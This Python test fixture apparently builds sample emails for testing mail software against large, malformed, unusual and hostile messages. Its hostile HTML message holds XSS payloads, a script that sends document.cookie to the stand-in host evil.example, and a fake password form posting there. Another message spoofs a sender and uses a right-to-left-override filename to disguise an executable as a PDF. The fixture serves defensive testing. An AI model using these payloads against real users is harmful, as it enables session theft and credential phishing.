"""Mail that breaks careless programs: large, damaged, hostile, or just unusual."""

from __future__ import annotations

import random

from tests.sandbox.messages.letter import Letter
from tests.sandbox.messages.writing import (
    Envelope,
    address,
    attachment,
    encoded,
    letter,
    multipart,
    part,
    text,
)

ALICE, HARUKA, OLGA = "alice@contoso.example", "haruka@example.jp", "olga@lab.example"
LARGE_BYTES = 4_000_000

_HOSTILE = """\
<html><body onload="fetch('https://evil.example/load')">
<p>Your mailbox is almost full.</p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<form action="https://evil.example/login"><input name="password"><button>Keep my mail</button></form>
<a href="javascript:alert(1)">Keep my mail</a> <a href="https://evil.example/">https://contoso.example/</a>
<img src="x" onerror="alert(1)"><svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<iframe src="https://evil.example/"></iframe><style>body{background:url(https://evil.example/css)}
p{position:fixed;top:0;left:0}</style><base href="https://evil.example/">
</body></html>
"""

_BOUNCE = """\
Reporting-MTA: dns; mx.contoso.example

Final-Recipient: rfc822; nobody@other.example
Action: failed
Status: 5.1.1
Diagnostic-Code: smtp; 550 5.1.1 The mailbox does not exist
"""


def letters() -> list[Letter]:
    """One of each, most of them with Alice."""
    return [*_large_and_damaged(), *_hostile(), *_unusual()]


def _large_and_damaged() -> list[Letter]:
    # The same noise every time: it must not compress, and it must not differ between starts.
    noise = random.Random(20).randbytes(LARGE_BYTES)
    large = Envelope("studio@contoso.example", ALICE, "Scans of the old catalogue", 33, "large")
    damaged = Envelope("scanner@contoso.example", ALICE, "Scan 0042", 36, "damaged")
    # No closing boundary, a charset that does not exist, base64 that stops in the middle.
    content = (
        b'Content-Type: multipart/mixed; boundary="gone"\n\n--gone\n'
        b"Content-Type: text/plain; charset=no-such-charset\n\n"
        b"The scanner ran out of paper: \xff\xfe\xe9\xe8\n"
        b"--gone\nContent-Type: application/pdf; name=\n"
        b"Content-Transfer-Encoding: base64\n\nJVBERi0xLjQKJeLjz9MK!!!not base64"
    )
    bare = (
        b"From: =?utf-8?B?broken\nSubject: \xa5\xb9\xff 8-bit subject without a charset\nTo: "
        + (ALICE.encode() + b"\nDate: the day before yesterday\n\nNo MIME, no identity, no date.\n")
    )
    return [
        letter(
            ALICE,
            large,
            multipart(
                "mixed",
                text("The scans are attached, all of them.\n"),
                attachment('filename="catalogue-1926.tiff"', "image/tiff", noise),
            ),
            flags=("\\Seen",),
        ),
        letter(ALICE, damaged, content),
        Letter(ALICE, "INBOX", bare.replace(b"\n", b"\r\n"), damaged.arrived),
    ]


def _hostile() -> list[Letter]:
    pretender = '"security@contoso.example" <support@evil.example>'
    return [
        letter(
            ALICE,
            Envelope(pretender, ALICE, "Your mailbox is almost full", 11, "hostile"),
            text(_HOSTILE, subtype="html"),
            "Junk",
        ),
        letter(
            OLGA,
            # A right-to-left mark that turns "fdp.exe" into "exe.pdf" on a screen.
            Envelope("parcel@evil.example", OLGA, encoded("Ваша посылка"), 15, "hostile-name"),
            multipart(
                "mixed",
                text("Накладная во вложении.\n"),
                attachment(
                    "filename*=utf-8''invoice%E2%80%AEfdp.exe", "application/octet-stream", b"MZ"
                ),
            ),
            "Junk",
        ),
    ]


def _unusual() -> list[Letter]:
    inner = Envelope("maria@contoso.example", "accounts@contoso.example", "Receipt", 140, "inner")
    forwarded = part(
        "message/rfc822", inner.headers() + text("The receipt for the train.\n"), "7bit"
    )
    daemon = address("Mail Delivery System", "mailer-daemon@contoso.example")
    undelivered = Envelope("alice@contoso.example", "nobody@other.example", "Hello", 97, "lost")
    bounce = multipart(
        "report; report-type=delivery-status",
        text("The message could not be delivered to nobody@other.example.\n"),
        part("message/delivery-status", _BOUNCE.encode(), "7bit"),
        part("text/rfc822-headers", undelivered.headers(), "7bit"),
    )
    signed = multipart(
        "signed; micalg=pgp-sha256",
        text("Signed, as every Friday.\n"),
        part("application/pgp-signature", b"-----BEGIN PGP SIGNATURE-----\n", "7bit"),
    )
    many = ", ".join(f"Guest {n} <guest{n}@other.example>" for n in range(1, 61))
    return [
        letter(
            ALICE,
            Envelope("accounts@contoso.example", ALICE, "Fwd: Receipt", 98, "forwarded"),
            multipart("mixed", text("Is this yours?\n"), forwarded),
        ),
        letter(
            ALICE,
            Envelope(daemon, ALICE, "Undelivered mail returned to sender", 96, "bounce"),
            bounce,
        ),
        letter(
            ALICE, Envelope("friday@other.example", ALICE, "Friday note", 100, "signed"), signed
        ),
        letter(
            HARUKA,
            Envelope("host@other.example", many, "Invitation for sixty", 150, "many", cc=HARUKA),
            text("See you there.\n"),
            "Archive",
            ("\\Seen",),
        ),
        letter(ALICE, Envelope("quiet@other.example", ALICE, "", 101, "empty"), text("")),
    ]
